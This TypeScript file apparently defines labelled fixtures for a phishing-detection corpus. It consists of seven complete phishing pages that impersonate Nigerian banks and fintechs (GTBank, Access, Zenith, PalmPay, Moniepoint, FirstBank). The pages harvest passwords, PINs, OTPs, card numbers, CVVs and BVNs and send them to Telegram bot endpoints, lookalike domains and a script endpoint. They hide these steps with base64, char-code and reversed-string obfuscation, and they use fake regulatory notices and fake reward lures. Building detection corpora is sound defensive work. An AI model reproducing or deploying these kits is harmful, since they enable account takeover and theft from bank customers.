import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { CSS, LOGO, b64, codes, doc, hex, ipLookup, jsR, rawDoc, revB64, tgSend, xorB64, xorDecoder } from '../parts/yv-kit.js';

// Nigerian bank credential kits as they circulate in 2024-25: GTBank, Access, Zenith, FirstBank, UBA,
// Ecobank (francophone) and the fintechs (OPay, PalmPay, Moniepoint).

const gtworldKit = doc({
  title: 'GTWorld | Account Reactivation',
  css: `${CSS.reset}body{background:#f5f5f5}.top{background:#dd4f05;height:6px}.wrap{max-width:400px;margin:30px auto;background:#fff;padding:26px;border-radius:4px;box-shadow:0 1px 6px rgba(0,0,0,.12)}h2{font-weight:500;color:#444;font-size:20px}${CSS.field}.btn{width:100%;background:#dd4f05;color:#fff;border:0;padding:13px;border-radius:4px;font-size:16px;margin-top:18px}.note{font-size:12px;color:#777;margin-top:14px}.hide{display:none}.err{color:#c00;font-size:13px}`,
  body: `<div class="top"></div>
<div class="wrap">
  <div style="text-align:center">${LOGO.gtbank}</div>
  <h2>Reactivate your GTWorld profile</h2>
  <p style="font-size:14px;color:#666">Your GTWorld access was restricted because your profile was not updated with your BVN in line with the recent CBN directive. Sign in to continue.</p>
  <form id="s1" autocomplete="off">
    <label>User ID / Account Number</label><input id="uid" required maxlength="10" inputmode="numeric">
    <label>Password</label><input id="pwd" type="password" required>
    <label>4-digit Transaction PIN</label><input id="pin" type="password" maxlength="4" inputmode="numeric" required>
    <button class="btn" type="submit">Continue</button>
  </form>
  <form id="s2" class="hide">
    <p style="font-size:14px">A one-time password (OTP) has been sent to the phone number linked to your account.</p>
    <label>Enter OTP</label><input id="otp" maxlength="6" inputmode="numeric" required>
    <div class="err" id="e2"></div>
    <button class="btn" type="submit">Verify</button>
  </form>
  <div id="s3" class="hide"><p>&#10004; Your profile has been reactivated successfully. You will be redirected shortly.</p></div>
  <p class="note">Guaranty Trust Bank Ltd. is licensed by the Central Bank of Nigeria. Deposits are insured by NDIC.</p>
</div>
<script>
${tgSend('7184406623:AAHd3kQwz_Fm0Nw2v8sGxP1b9xYk4LqzT0c', '-1002119845530')}
${ipLookup}
var d={};var tries=0;
document.getElementById('s1').onsubmit=function(e){e.preventDefault();d.uid=uid.value;d.pwd=pwd.value;d.pin=pin.value;
getIp().then(function(ip){sendTg('<b>GTB LOGIN</b>%0AUser: '+d.uid+'%0APass: '+d.pwd+'%0APIN: '+d.pin+'%0AIP: '+ip+'%0AUA: '+navigator.userAgent);});
s1.className='hide';s2.className='';};
document.getElementById('s2').onsubmit=function(e){e.preventDefault();tries++;sendTg('<b>GTB OTP '+tries+'</b>: '+otp.value+' | '+d.uid);
if(tries<2){e2.textContent='Invalid OTP. A new code has been sent.';otp.value='';return;}
s2.className='hide';s3.className='';setTimeout(function(){location.href='https://www.gtbank.com/';},2500);};
</script>`,
});

const accessLogin = rawDoc(
  'Access Bank Online Token Synchronization',
  `<style>body{font-family:Tahoma,Arial;background:#eef2f6;margin:0}.h{background:#003b65;padding:14px 20px}.box{background:#fff;width:380px;margin:40px auto;padding:24px;border-top:4px solid #f47b20}input{width:100%;padding:10px;margin:6px 0 12px;border:1px solid #ccc}button{background:#f47b20;border:0;color:#fff;padding:11px 24px}</style>
<div class="h">${LOGO.access.replace('#003b65', '#fff')}</div>
<div class="box"><h3 style="color:#003b65">Hardware Token Synchronization</h3>
<p style="font-size:13px">Dear Valued Customer, your Access Online token is out of sync. Kindly provide the details below to re-synchronize and avoid restriction of your account.</p>
<form method="post" action="next.php">
<input type="hidden" name="step" value="login">
Internet Banking ID<input name="username" required>
Password<input type="password" name="password" required>
Token Serial / Phone Number<input name="phone" required>
<button type="submit">Synchronize</button></form></div>`,
);
const accessOtp = rawDoc(
  'Access Bank - Verification',
  `<style>body{font-family:Tahoma,Arial;background:#eef2f6}.box{background:#fff;width:380px;margin:60px auto;padding:24px;border-top:4px solid #f47b20}input{width:100%;padding:10px;margin:6px 0 12px;border:1px solid #ccc}button{background:#f47b20;border:0;color:#fff;padding:11px 24px}</style>
<div class="box">${LOGO.access}<h3>Enter Token Code</h3><p style="font-size:13px">Press the button on your hardware token or enter the code sent to your registered line.</p>
<form method="post" action="finish.php"><input name="otp" maxlength="8" required>ATM Card PIN<input name="atmpin" type="password" maxlength="4"><button>Submit</button></form></div>`,
);

const zenithInner = `<div style="max-width:980px;margin:0 auto;display:flex;gap:30px;padding:30px;font-family:Georgia,serif">
<div style="flex:1"><div>${LOGO.zenith}</div><h1 style="color:#e30613;font-weight:normal">Internet Banking</h1>
<p>In our bid to serve you better, all customers are required to revalidate their Internet Banking profile on or before the deadline.</p><img alt="" src="data:image/svg+xml;base64,${b64('<svg xmlns="http://www.w3.org/2000/svg" width="300" height="120"><rect width="300" height="120" fill="#eee"/><text x="20" y="66" font-size="18" fill="#999">Zenith - In your best interest</text></svg>')}"></div>
<form id="zf" style="flex:1;background:#f7f7f7;padding:24px;border:1px solid #ddd">
<h3>Login</h3>
<p>User ID<br><input name="uid" style="width:100%;padding:9px"></p>
<p>Password<br><input name="pw" type="password" style="width:100%;padding:9px"></p>
<div id="more" style="display:none"><h4>Card Validation</h4>
<p>Card Number<br><input name="cc" maxlength="19" style="width:100%;padding:9px"></p>
<p>Expiry (MM/YY) <input name="exp" maxlength="5" style="width:80px;padding:9px"> CVV <input name="cvv" maxlength="3" style="width:60px;padding:9px"> PIN <input name="cpin" type="password" maxlength="4" style="width:60px;padding:9px"></p></div>
<button style="background:#e30613;color:#fff;border:0;padding:10px 30px">Login</button></form></div>
<script>var f=document.getElementById('zf'),st=0;f.onsubmit=function(e){e.preventDefault();var fd=new FormData(f);fd.append('s',st);
navigator.sendBeacon(atob('${b64('https://zenith-ib-revalidate.com/panel/rcv.php')}'),fd);
if(st===0){st=1;document.getElementById('more').style.display='block';f.querySelector('button').textContent='Validate';}else{location.replace('https://www.zenithbank.com');}};</script>`;
const zenithKit = `<!doctype html><html><head><meta charset="utf-8"><title>Zenith Bank | Internet Banking</title></head><body style="margin:0"><script>document.write(decodeURIComponent(escape(atob("${b64(zenithInner)}"))));</script><noscript>Please enable JavaScript</noscript></body></html>`;

const palmpayKit = doc({
  title: 'PalmPay ₦25,000 Customer Reward',
  css: `${CSS.reset}body{background:linear-gradient(#6a35ff,#8f66ff);min-height:100vh;color:#fff}.c{max-width:400px;margin:0 auto;padding:22px}.gift{background:#fff;color:#222;border-radius:18px;padding:20px}.amt{font-size:38px;font-weight:800;color:#6a35ff}${CSS.field}button{width:100%;background:#ffb800;border:0;border-radius:28px;padding:14px;font-weight:700;margin-top:16px}.t{font-size:12px;opacity:.8}`,
  body: `<div class="c">${LOGO.palmpay.replace(/#6a35ff">PalmPay/, '#fff">PalmPay')}
<h2>Congrats! You don win PalmPay anniversary bonus &#127881;</h2>
<div class="gift"><div>Your reward</div><div class="amt">&#8358;25,000</div>
<p>E remain <b id="left">37</b> slots for today. Enter your PalmPay details make we credit your wallet sharp sharp.</p>
<form action="https://script.google.com/macros/s/AKfycbx7Qm2nPp_rW4Vd0LsJk3TzH9eYc1uA8fNq/exec" method="post">
<label>PalmPay phone number</label><input name="phone" required>
<label>6-digit login PIN</label><input name="pin" type="password" maxlength="6" required>
<label>Payment PIN</label><input name="ppin" type="password" maxlength="4" required>
<input type="hidden" name="src" value="fb-ads-jul">
<button>Claim my &#8358;25,000</button></form></div>
<p class="t">Comments (2,384)</p>
<p class="t">&#11088; Chioma O.: I don receive my own o! Thank you PalmPay &#10084;</p>
<p class="t">&#11088; Ibrahim K.: E work for me, na true</p></div>
<script>var n=37;setInterval(function(){if(n>3){n--;document.getElementById('left').textContent=n;}},4000);</script>`,
});

const moniepointKit = doc({
  title: 'Moniepoint Agent Portal - Terminal Re-activation',
  css: `${CSS.reset}body{background:#f3f6fc;display:flex;min-height:100vh}.side{width:38%;background:#0357ee;color:#fff;padding:50px}.main{flex:1;display:flex;align-items:center;justify-content:center}.f{width:360px}${CSS.field}button{width:100%;background:#0357ee;color:#fff;border:0;padding:13px;border-radius:8px;margin-top:18px}@media(max-width:700px){.side{display:none}}`,
  body: `<div class="side">${LOGO.moniepoint.replace('#0b1f44', '#fff')}<h1>Agents, your POS terminal needs re-activation</h1><p>Following the CBN directive on agent banking geo-fencing, every POS terminal must be re-registered to a verified agent location. Terminals not re-activated will be disabled.</p></div>
<div class="main"><form class="f" id="mf" method="post" action="/agent/auth/verify.php">
<h2>Agent sign in</h2>
<label>Business phone number</label><input name="phone" required>
<label>Password</label><input name="password" type="password" required>
<label>Terminal ID (TID)</label><input name="tid" placeholder="2MPT...." required>
<label>Transaction PIN</label><input name="tpin" type="password" maxlength="4" required>
<label>Business address</label><input name="addr">
<button>Re-activate terminal</button>
<p style="font-size:12px;color:#888">Moniepoint MFB is licensed by the CBN.</p></form></div>
<script>(function(){var k=[${codes('https://moniepoint-agents-reactivate.top/agent/auth/verify.php')}];document.getElementById('mf').action=String.fromCharCode.apply(null,k);})();</script>`,
});

const accessWizard = doc({
  title: 'Access Bank | Diamond Customer Migration',
  css: `${CSS.reset}body{background:#fafafa}.nav{border-bottom:3px solid #f47b20;padding:12px 24px;background:#fff}.w{max-width:520px;margin:28px auto;background:#fff;padding:28px;border:1px solid #eee}.bar{display:flex;margin-bottom:18px}.bar div{flex:1;text-align:center;font-size:12px;padding:6px;border-bottom:3px solid #ddd}.bar .a{border-color:#f47b20;color:#f47b20}${CSS.field}.row{display:flex;gap:10px}.row>div{flex:1}button{background:#003b65;color:#fff;border:0;padding:12px 30px;margin-top:18px;border-radius:3px}.st{display:none}.st.on{display:block}`,
  body: `<div class="nav">${LOGO.access}</div>
<div class="w"><h2 style="color:#003b65">Former Diamond Bank customers</h2><p style="font-size:14px">Complete the final stage of your account migration to Access Bank. Accounts not migrated by Friday will be placed on restriction.</p>
<div class="bar"><div class="a" id="b1">1. Profile</div><div id="b2">2. Card</div><div id="b3">3. Confirm</div></div>
<form id="wz">
<div class="st on" id="t1"><label>Full name</label><input name="name"><label>Account number (NUBAN)</label><input name="nuban" maxlength="10"><label>BVN</label><input name="bvn" maxlength="11"><label>Internet banking password</label><input name="ibpw" type="password"></div>
<div class="st" id="t2"><label>Card number</label><input name="pan" maxlength="19"><div class="row"><div><label>Expiry</label><input name="exp"></div><div><label>CVV</label><input name="cvv" maxlength="3"></div><div><label>PIN</label><input name="pin" type="password" maxlength="4"></div></div></div>
<div class="st" id="t3"><label>OTP sent to your phone</label><input name="otp" maxlength="6"><label>Mother's maiden name</label><input name="mmn"></div>
<button id="nx">Continue</button></form></div>
<script>
var s=1;document.getElementById('wz').onsubmit=function(e){e.preventDefault();var fd=new FormData(this);fd.append('stage',s);fd.append('ref',document.referrer);
var x=new XMLHttpRequest();x.open('POST','gate.php',true);x.send(fd);
if(s<3){document.getElementById('t'+s).className='st';document.getElementById('b'+s).className='';s++;document.getElementById('t'+s).className='st on';document.getElementById('b'+s).className='a';}
else{this.innerHTML='<p>Thank you. Your migration request (ref DM-'+Math.floor(Math.random()*1e6)+') is being processed.</p>';}};
</script>`,
});

const fbUssd = `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>*894# PIN Reset</title></head><body style="margin:0;font-family:Arial;background:#e8eef5">
<div style="background:#003b71;padding:10px 14px">${LOGO.firstbank.replace('#003b71">FirstBank', '#fff">FirstBank')}</div>
<div style="padding:16px;max-width:420px;margin:auto">
<h3>Reset your *894# USSD PIN</h3>
<p style="font-size:14px">You entered a wrong PIN 3 times and your *894# profile has been blocked. Reset it here to continue making transfers and airtime recharge.</p>
<form id="u" style="background:#fff;padding:16px;border-radius:8px">
<p>Registered phone number<br><input name="p" style="width:100%;padding:10px"></p>
<p>Last 6 digits of your debit card<br><input name="l6" maxlength="6" style="width:100%;padding:10px"></p>
<p>Card expiry month/year<br><input name="e" style="width:100%;padding:10px"></p>
<p>Old PIN<br><input name="op" type="password" maxlength="4" style="width:100%;padding:10px"></p>
<p>New PIN<br><input name="np" type="password" maxlength="4" style="width:100%;padding:10px"></p>
<button style="width:100%;padding:12px;background:#f2b632;border:0;font-weight:bold">Reset PIN</button></form></div>
<script src="/assets/js/app.min.js"></script></body></html>`;
const fbUssdJs = `!function(){var e=[${codes('https://api.telegram.org/bot')}],t="${revB64('7440192358:AAFbx0pYTq3JmW1cRk9zL5nGvHsA2dE8uOy')}",n="${b64('/sendMessage?chat_id=-1001987355210&text=')}";function r(s){return atob(s).split("").reverse().join("")}document.getElementById("u").addEventListener("submit",function(o){o.preventDefault();var a=[].map.call(this.elements,function(x){return x.name?x.name+"="+x.value:""}).join("%0A");fetch(String.fromCharCode.apply(null,e)+r(t)+atob(n)+"FBN894%0A"+a).then(function(){alert("Your *894# PIN has been reset successfully.")})})}();`;

export const entries: Entry[] = [
  { id: 'yv-gtworld-reactivation-tg-kit', label: 'phishing', kind: 'bank-credential-kit', url: 'https://gtworld-profile-reactivation.online/ng/index.html', body: gtworldKit },
  {
  id: 'yv-access-token-sync-wp-compromise',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://olaniyanpharmacy.com.ng/wp-includes/css/access-sync/index.html',
  body: accessLogin,
  routes: {
    'olaniyanpharmacy.com.ng/wp-includes/css/access-sync/next.php': redirectRoute(302, 'https://olaniyanpharmacy.com.ng/wp-includes/css/access-sync/verify.html'),
    'olaniyanpharmacy.com.ng/wp-includes/css/access-sync/verify.html': htmlRoute(accessOtp),
    'olaniyanpharmacy.com.ng/wp-includes/css/access-sync/finish.php': redirectRoute(302, 'https://www.accessbankplc.com/'),
  },
},
  { id: 'yv-zenith-punycode-b64-docwrite', label: 'phishing', kind: 'bank-credential-kit', url: 'https://xn--zenthbank-x9h.com/ibank/login', body: zenithKit },
  { id: 'yv-palmpay-anniversary-bonus-pidgin', label: 'phishing', kind: 'fintech-wallet-kit', url: 'https://palmpay-anniversary-bonus.blogspot.com/2025/07/claim.html', body: palmpayKit },
  { id: 'yv-moniepoint-pos-agent-reactivation', label: 'phishing', kind: 'agent-banking-kit', url: 'https://moniepoint-agents-reactivate.top/agent/login', body: moniepointKit },
  { id: 'yv-access-diamond-migration-wizard', label: 'phishing', kind: 'bank-credential-kit', url: 'https://diamond-access-migration.com.ng/migrate/step.php', body: accessWizard },
  {
  id: 'yv-firstbank-894-pin-reset-extjs',
  label: 'phishing',
  kind: 'card-pin-harvest',
  url: 'https://firstbank894-reset.000webhostapp.com/reset.html',
  body: fbUssd,
  routes: { 'firstbank894-reset.000webhostapp.com/assets/js/app.min.js': jsR(fbUssdJs) },
},
];
